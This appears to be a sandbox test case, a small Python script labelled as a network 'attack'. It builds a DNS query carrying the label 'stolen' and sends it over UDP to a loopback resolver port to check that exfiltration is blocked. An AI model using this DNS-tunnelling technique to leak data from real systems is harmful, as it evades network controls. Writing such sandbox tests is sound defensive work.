# /// attack
# category = "network"
# kind = "stdio"
# success = "net:udp"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Hides data in a DNS query to a resolver on the loopback address."
# ///

import socket
import struct

name = b"".join(bytes([len(label)]) + label for label in (b"stolen", b"example")) + b"\0"
query = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as channel:
        channel.sendto(query, ("127.0.0.1", int("{UDP_PORT}")))
except OSError as error:
    print("blocked", error)
